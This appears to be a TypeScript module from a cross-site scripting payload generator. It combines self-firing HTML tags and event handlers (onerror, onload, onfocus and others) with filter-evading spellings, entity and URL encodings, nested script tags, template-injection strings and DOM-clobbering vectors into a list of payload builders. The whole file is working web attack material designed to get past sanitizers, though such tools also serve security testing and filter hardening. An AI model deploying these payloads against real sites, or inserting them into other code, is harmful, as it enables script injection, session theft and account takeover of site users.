import type { Compose } from './vector.ts';

/** Elements that run an event handler by themselves: the rest of the tag, with a place for the handler. */
const SELF_STARTING: readonly (readonly [open: string, event: string])[] = [
  ['img src=x:', 'onerror'],
  ['img srcset=x:', 'onerror'],
  ['image src=x:', 'onerror'],
  ['svg', 'onload'],
  ['body', 'onload'],
  ['iframe', 'onload'],
  ['details open', 'ontoggle'],
  ['input autofocus', 'onfocus'],
  ['select autofocus', 'onfocus'],
  ['textarea autofocus', 'onfocus'],
  ['button autofocus', 'onfocus'],
  ['a tabindex=1 autofocus', 'onfocusin'],
  ['x-y contenteditable autofocus', 'onfocus'],
  ['audio src=x:', 'onerror'],
  ['video src=x:', 'onerror'],
  ['video><source src=x:', 'onerror'],
  ['object data=x:', 'onerror'],
  ['embed src=x:', 'onerror'],
  ['script src=x:', 'onerror'],
  ['link rel=stylesheet href=x:', 'onerror'],
  ['style', 'onload'],
  ['marquee', 'onstart'],
  ['svg><animate attributeName=x dur=1s', 'onbegin'],
  ['svg><set attributeName=x', 'onbegin'],
  ['svg><image href=x:', 'onerror'],
  ['math><mi autofocus tabindex=1', 'onfocus'],
  ['p style="animation:a 1s"', 'onanimationstart'],
  ['div popover', 'onbeforetoggle'],
];

/** Ways to write one tag: browsers forgive much, and filters have missed each of these. */
const SPELLINGS: readonly ((open: string, event: string, code: string) => string)[] = [
  (open, event, code) => `<${open} ${event}=${code}>`,
  (open, event, code) => `<${open} ${event}="${code}">`,
  (open, event, code) => `<${open} ${event}='${code}'`,
  (open, event, code) => `<${open.toUpperCase()} ${event.toUpperCase()}=${code}>`,
  (open, event, code) => `<${mixed(open)} ${mixed(event)}=${code}>`,
  (open, event, code) => `<${open.replaceAll(' ', '/')}/${event}=${code}>`,
  (open, event, code) => `<${open.replaceAll(' ', '\n')}\n${event}\n=\n${code}\n>`,
  (open, event, code) => `<${open}\t${event}\f=${code}//>`,
  (open, event, code) => `<${open} ${event}="${references(code)}">`,
  (open, event, code) => `<${open} a="\`" ${event}=${code} b=\`>`,
  (open, event, code) => `"'><${open} ${event}=${code}>`,
  (open, event, code) => `<<${open} ${event}=${code}><`,
];

/** Not a tag yet, but it becomes one for a filter that decodes or removes once too often. */
const OBFUSCATIONS: readonly ((tag: string) => string)[] = [
  (tag) => tag.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (tag) => tag.replaceAll('<', '&amp;lt;').replaceAll('>', '&amp;gt;'),
  (tag) => tag.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (tag) => tag.replaceAll('<', '&#x3c'),
  (tag) => encodeURIComponent(tag),
  (tag) => tag.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (tag) => tag.replaceAll('<', '\\<'),
  (tag) => tag.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (tag) => tag.replace('<', '<scr<script>ipt>').concat('</scr</script>ipt>'),
  (tag) => tag.replace('img', 'i<!-- -->mg'),
  (tag) => `<!--[if IE]>${tag}<![endif]-->`,
  (tag) => `<![CDATA[${tag}]]>`,
];

const mixed = (text: string): string => [...text].map((sign, at) => (at % 2 ? sign.toUpperCase() : sign)).join('');
const references = (text: string): string => [...text].map((sign) => `&#${sign.charCodeAt(0)};`).join('');

/**
 * Tags that run by themselves, each in several spellings: a selection of pairs that includes every tag and every
 * spelling.
 */
export const MARKUP: readonly Compose[] = [
  ...SELF_STARTING.flatMap(([open, event], tag) =>
    SPELLINGS.filter((_, spelling) => spelling === 0 || (tag + spelling) % 2 === 0).map(
      (spell): Compose =>
        (code) =>
          spell(open, event, code),
    ),
  ),
  ...OBFUSCATIONS.map(
    (obfuscate): Compose =>
      (code) =>
        obfuscate(`<img src=x: onerror=${code}>`),
  ),
  (code) => `<script>${code}</script>`,
  (code) => `<SCRIPT\t>${code}</SCRIPT\t>`,
  (code) => `<script/x>${code}</script x>`,
  (code) => `<script>//<![CDATA[\n${code}\n//]]></script>`,
  (code) => `<svg><script>${references(code)}</script></svg>`,
  (code) => `<svg><script href="data:text/javascript,${code}"/></svg>`,
  (code) => `<script type=module>${code}</script>`,
  (code) => `<script src="data:text/javascript,${code}"></script>`,
  (code) => `<iframe srcdoc="&lt;script&gt;parent.${code}&lt;/script&gt;"></iframe>`,
  (code) => `<template shadowrootmode=open><img src=x: onerror=${code}></template>`,
  (code) => `</textarea></title></style></script><img src=x: onerror=${code}>`,
  (code) => `<!--><img src=x: onerror=${code}>-->`,
  (code) => `<!--x--!><img src=x: onerror=${code}>`,
  (code) => `<? x="><img src=x: onerror=${code}>`,
  (code) => `</ x="><img src=x: onerror=${code}>`,
  (code) => `\${${code}}{{${code}}}{{constructor.constructor('${code}')()}}`,
  (code) => `<div id=appearance><a id=document name=cookie></a></div><img name=currentScript src=x: onerror=${code}>`,
];
